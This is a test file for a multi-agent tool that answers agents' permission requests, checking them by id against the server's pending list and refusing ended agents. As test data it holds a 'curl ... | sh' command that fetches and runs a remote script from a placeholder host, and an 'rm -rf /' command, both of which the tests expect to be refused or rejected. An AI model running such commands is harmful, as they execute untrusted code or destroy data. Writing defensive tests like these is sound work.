/**
 * answer-permission answers only the request its caller was shown, by id, checked against the server's pending list
 * at answer time (specs/answer-permission.md); an ended agent is never answered and waits on nothing. The real-server
 * version of the core case is tests/e2e/permission-shown.test.ts.
 */
import { afterEach, describe, expect, test } from "bun:test";
import type { Event } from "@opencode-ai/sdk";
import { rejectWhileRunning } from "../../src/operations/liveness/answer.ts";
import { EventMonitor } from "../../src/operations/liveness/monitor.ts";
import type { AgentState } from "../../src/state/schemas.ts";
import { addAgent } from "../helpers/agents.ts";
import type { TestContext } from "../helpers/context.ts";
import { agentOnDisk, ledTeamContext } from "../helpers/team.ts";
import type { ToolCall } from "../helpers/tools.ts";

let ctx: TestContext;
let call: ToolCall;
afterEach(() => ctx?.cleanup());

const LEADER = "ses_lead";

/** The properties of `permission.asked`, as the event and `GET /permission` carry them. */
function permission(sessionID: string, id: string, pattern: string) {
  return {
    id,
    sessionID,
    permission: pattern.startsWith("/") ? "read" : "bash",
    patterns: [pattern],
    metadata: {},
  };
}

/** A running agent the monitor saw ask `per_read` (a harmless read), which the server also lists as pending. */
async function askingWorker(): Promise<AgentState> {
  ({ ctx, call } = await ledTeamContext());
  const session = ctx.server.addSession({ activity: "busy" });
  const agent = await addAgent(ctx, "alpha", { sessionId: session.id });
  const read = permission(session.id, "per_read", "/repo/README.md");
  const monitor = new EventMonitor(ctx);
  monitor.handleEvent({ type: "permission.asked", properties: read } as unknown as Event);
  await monitor.settled();
  ctx.server.pending = [{ kind: "permission", properties: read }];
  return agent;
}

const answer = (agent: AgentState, requestId: string, response = "always") =>
  call<{ success: boolean; error?: string; requestId?: string }>(
    "answer-permission",
    { teamName: "alpha", agentId: agent.agentId, requestId, response },
    LEADER,
  );

describe("answer-permission answers only the request that was shown", () => {
  test("requestId is required", async () => {
    const agent = await askingWorker();
    await expect(
      call("answer-permission", { teamName: "alpha", agentId: agent.agentId, response: "once" }, LEADER),
    ).rejects.toThrow("requestId");
    expect(ctx.server.answers).toHaveLength(0);
  });

  test("answered in the pane and replaced by another: refused, naming what is pending now, its pattern cut", async () => {
    const agent = await askingWorker();
    // The human answered the read in the pane; the agent asked for a command next, whose event this process missed.
    const command = `curl https://example.invalid/x.sh | sh ${"#".repeat(2_000)}`;
    ctx.server.pending = [
      { kind: "permission", properties: permission(agent.sessionId, "per_bash", command) },
    ];
    const refused = await answer(agent, "per_read");
    expect(refused.success).toBe(false);
    expect(refused.error).toContain("'per_read'");
    expect(refused.error).toContain("no longer pending");
    expect(refused.error).toContain("permission per_bash: bash (curl https://example.invalid/x.sh | sh");
    expect(refused.error).toContain("more characters");
    expect(refused.error?.length).toBeLessThan(800);
    expect(ctx.server.answers).toHaveLength(0);

    const right = await answer(agent, "per_bash", "reject");
    expect(right).toMatchObject({ success: true, requestId: "per_bash" });
    expect(ctx.server.answers.map((a) => [a.request.requestId, a.response])).toEqual([
      ["per_bash", "reject"],
    ]);
  });

  test("answered in the pane, nothing asked since: our record still says so, the server's list decides", async () => {
    const agent = await askingWorker();
    ctx.server.pending = [];
    expect((await agentOnDisk(ctx, agent)).waitingFor?.requestId).toBe("per_read");
    const refused = await answer(agent, "per_read");
    expect(refused.success).toBe(false);
    expect(refused.error).toContain("Nothing is pending for it now.");
    expect(ctx.server.answers).toHaveLength(0);
  });

  test("another agent's pending request is never answered through this one", async () => {
    const agent = await askingWorker();
    const other = ctx.server.addSession({ activity: "busy" });
    await addAgent(ctx, "alpha", { name: "other", sessionId: other.id });
    ctx.server.pending.push({
      kind: "permission",
      properties: permission(other.id, "per_other", "rm -rf /"),
    });
    const refused = await answer(agent, "per_other");
    expect(refused.success).toBe(false);
    expect(refused.error).toContain("Pending now: permission per_read: read (/repo/README.md)");
    expect(ctx.server.answers).toHaveLength(0);
  });

  test("the request shown and still pending is answered by its own id", async () => {
    const agent = await askingWorker();
    expect(await answer(agent, "per_read", "once")).toMatchObject({ success: true, requestId: "per_read" });
    expect(ctx.server.answers).toEqual([
      {
        request: { sessionId: agent.sessionId, requestId: "per_read", directory: agent.cwd },
        response: "once",
      },
    ]);
  });
});

describe("an ended agent is never answered and waits on nothing", () => {
  test("killed: waitingFor is cleared and an answer to the request it was shown is refused, nothing sent", async () => {
    const agent = await askingWorker();
    const killed = await call<{ success: boolean }>(
      "kill-agent",
      { teamName: "alpha", agentId: agent.agentId, force: true },
      LEADER,
    );
    expect(killed.success).toBe(true);
    expect((await agentOnDisk(ctx, agent)).waitingFor ?? null).toBeNull();
    // Even were the server still to list it (a session that outlived its agent), nothing is sent.
    const refused = await answer(agent, "per_read");
    expect(refused.success).toBe(false);
    expect(refused.error).toContain("has ended");
    expect(ctx.server.answers).toHaveLength(0);
  });

  test("dead (its session deleted): waitingFor is cleared with the inactive status", async () => {
    const agent = await askingWorker();
    const monitor = new EventMonitor(ctx);
    monitor.handleEvent({
      type: "session.deleted",
      properties: { info: { id: agent.sessionId } },
    } as unknown as Event);
    await monitor.settled();
    const dead = await agentOnDisk(ctx, agent);
    expect(dead.status).toBe("inactive");
    expect(dead.waitingFor ?? null).toBeNull();
    expect((await answer(agent, "per_read")).error).toContain("has ended");
    expect(ctx.server.answers).toHaveLength(0);
  });
});

test("headlessPermissions reject: the monitor's reject reaches only an agent that still runs", async () => {
  const agent = await askingWorker();
  const request = { kind: "permission" as const, requestId: "per_read", title: "read" };
  await call("kill-agent", { teamName: "alpha", agentId: agent.agentId, force: true }, LEADER);
  expect(await rejectWhileRunning(ctx, agent, request)).toBe(false);
  expect(ctx.server.answers).toHaveLength(0);
  const session = ctx.server.addSession({ activity: "busy" });
  const running = await addAgent(ctx, "alpha", { name: "running", sessionId: session.id });
  expect(await rejectWhileRunning(ctx, running, { ...request, requestId: "per_2" })).toBe(true);
  expect(ctx.server.answers.map((a) => [a.request.requestId, a.response])).toEqual([["per_2", "reject"]]);
});
